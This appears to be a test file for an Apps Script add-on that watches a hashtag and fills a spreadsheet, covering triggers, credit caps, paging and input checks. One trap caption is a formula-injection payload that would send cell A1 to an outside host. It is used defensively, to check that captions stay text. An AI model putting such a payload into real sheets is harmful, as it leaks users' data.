/**
 * "Watch a hashtag" (issue 24, item 2) with the *built* add-on in the Apps Script stand-in against
 * the sandbox: a watch made through the sidebar's calls, then run by the hourly trigger (the
 * stand-in's clock moved by rt.advance, the sandbox's by its clock route) while posts are
 * published on the tag (POST /_sandbox/hashtag/<tag>/publish). Credits are counted at the sandbox.
 */
import type { GasRuntime } from '../../scripts/gas-standin/runtime';
import { sandboxedAddon } from './harness';

const HOUR = 3600000;
const TAG = 'veganrecipes';
const env = sandboxedAddon();

type Published = { id: string; taken_at: string };

/** Publishes `n` posts on the tag (optionally with a caption); returns them oldest first. */
async function publish(tag: string, n: number, caption?: string): Promise<Published[]> {
  const q = `count=${n}${caption === undefined ? '' : `&caption=${encodeURIComponent(caption)}`}`;
  const res = await fetch(`${env.sandbox.url}/_sandbox/hashtag/${tag}/publish?${q}`, { method: 'POST' });
  expect(res.status).toBe(200);
  return ((await res.json()) as { published: Published[] }).published.reverse();
}

/** An hour passes on both clocks: the hourly trigger runs once. */
async function nextHour(rt: GasRuntime): Promise<void> {
  await fetch(`${env.sandbox.url}/_sandbox/clock?advance=${HOUR}`, { method: 'POST' });
  rt.advance(HOUR);
}

function newSheet(): GasRuntime {
  const rt = env.runtime();
  rt.call('igSidebarState'); // installs the hourly trigger
  return rt;
}

/** The watch sheet's rows below the header. */
const rowsOf = (rt: GasRuntime, sheet: string) => rt.spreadsheet.sheet(sheet).getValues().slice(1).filter((r) => r[8] !== '');
const idsOf = (rt: GasRuntime, sheet: string) => rowsOf(rt, sheet).map((r) => String(r[8]));

/** Requests for a page after the first (with a cursor), by request: each must be read once. */
async function cursorPages(): Promise<number[]> {
  const { byRequest } = await env.sandbox.stats();
  return Object.entries(byRequest as Record<string, number>).filter(([k]) => k.includes('hashtag/recent') && k.includes('cursor')).map(([, n]) => n);
}

test('hourly over 3 days: every post published is in the sheet once, oldest first; credits = pages read, none read twice', async () => {
  const rt = newSheet();
  const [w] = rt.call('igWatchCreate', { tags: `#${TAG}`, every: 'hourly', cap: 10 }) as { sheet: string; last: { pages: number; rows: number } }[];
  // The first run: the tag's newest page (30 posts), oldest first.
  expect(w.last).toMatchObject({ pages: 1, rows: 30 });
  const baseline = idsOf(rt, w.sheet);
  expect(new Set(baseline).size).toBe(30);
  const published: Published[] = [];
  let pages = 1;
  for (let h = 0; h < 72; h++) {
    // 0 to 64 posts an hour, 30 and 60 (a page boundary) among them.
    const n = (h * 17) % 65;
    if (n) published.push(...(await publish(TAG, n)));
    await nextHour(rt);
    pages += Math.floor(n / 30) + 1; // the pages the new posts fill, and the one holding the post seen last
  }
  expect(published.length).toBeGreaterThan(1500);
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...published.map((p) => p.id)]);
  const times = rowsOf(rt, w.sheet).map((r) => (r[1] as Date).getTime());
  expect([...times].sort((a, b) => a - b)).toEqual(times);
  const stats = await env.sandbox.stats();
  expect(stats.byEndpoint['hashtag/recent']).toBe(pages);
  expect(stats.creditsBilled).toBe(pages);
  expect(await cursorPages()).toEqual(expect.not.arrayContaining([2]));
  const usage = rt.call('igUsage') as Record<string, Record<string, number>>;
  expect(Object.values(usage).reduce((n, d) => n + (d[`Watch #${TAG}`] ?? 0), 0)).toBe(pages);
});

test('a run stopped by its cap continues where it stopped: the older posts go above the rows it wrote, no page is read twice', async () => {
  const rt = newSheet();
  const [w] = rt.call('igWatchCreate', { tags: TAG, every: 'hourly', cap: 2 }) as { id: string; sheet: string }[];
  const baseline = idsOf(rt, w.sheet);
  const first = await publish(TAG, 100); // 4 pages to the post seen last: 2 this run, 2 the next
  await nextHour(rt);
  let [v] = rt.call('igWatches') as { last: { pages: number; rows: number; credits: number; message?: string } }[];
  expect(v.last).toMatchObject({ pages: 2, rows: 60, credits: 2 });
  expect(v.last.message).toMatch(/cap of 2 credits.*next run goes on/);
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...first.slice(40).map((p) => p.id)]);
  const second = await publish(TAG, 10);
  await nextHour(rt); // the cap goes to the rest of the 100 (pages 3 and 4); the 10 wait
  [v] = rt.call('igWatches');
  expect(v.last).toMatchObject({ pages: 2, rows: 40, credits: 2 });
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...first.map((p) => p.id)]);
  await nextHour(rt);
  [v] = rt.call('igWatches');
  expect(v.last).toMatchObject({ pages: 1, rows: 10, credits: 1 });
  expect(v.last.message).toBeUndefined();
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...first.map((p) => p.id), ...second.map((p) => p.id)]);
  const stats = await env.sandbox.stats();
  expect(stats.creditsBilled).toBe(1 + 2 + 2 + 1);
  expect(await cursorPages()).toEqual([1, 1, 1]);
});

test('captions and authors stay text, the thumbnail is a formula we built, likes and comments are numbers', async () => {
  const rt = newSheet();
  const traps = ['=IMAGE("https://x/leak?"&A1)', '0012345', 'TRUE', '2026-01-05', '+15551234567', "'x"];
  const [w] = rt.call('igWatchCreate', { tags: TAG, every: 'daily', hour: 7, cap: 5 }) as { sheet: string }[];
  for (const caption of traps) await publish(TAG, 1, caption);
  rt.call('igWatchDelete', 'none'); // deleting an unknown id changes nothing
  rt.advance(25 * HOUR);
  const rows = rowsOf(rt, w.sheet);
  expect(rows.slice(-traps.length).map((r) => r[4])).toEqual(traps);
  const sheet = rt.spreadsheet.sheet(w.sheet);
  const formulas = [...sheet.formulas.entries()];
  expect(formulas.length).toBe(rows.length);
  for (const [cell, f] of formulas) {
    expect(cell).toMatch(/^\d+,1$/);
    expect(f).toMatch(/^=IMAGE\("https?:\/\/[^"]+"\)$/);
  }
  for (const r of rows) {
    expect(typeof r[5]).toBe('number');
    expect(typeof r[6]).toBe('number');
    expect(r[1]).toBeInstanceOf(Date);
  }
});

test('bad input says which and what to do, nothing is saved or charged', async () => {
  const rt = newSheet();
  expect(() => rt.call('igWatchCreate', { tags: '', every: 'hourly', cap: 5 })).toThrow(/Tags: type one or more hashtags/);
  expect(() => rt.call('igWatchCreate', { tags: 'vegan', every: 'weekly', cap: 5 })).toThrow(/Repeat: choose "hourly" or "daily"/);
  expect(() => rt.call('igWatchCreate', { tags: 'vegan', every: 'hourly', cap: 500 })).toThrow(/Credit cap per run: a whole number from 1 \(one page\) to 100/);
  expect(rt.call('igWatches')).toEqual([]);
  await expect(env.sandbox.stats()).resolves.toMatchObject({ creditsBilled: 0 });
});
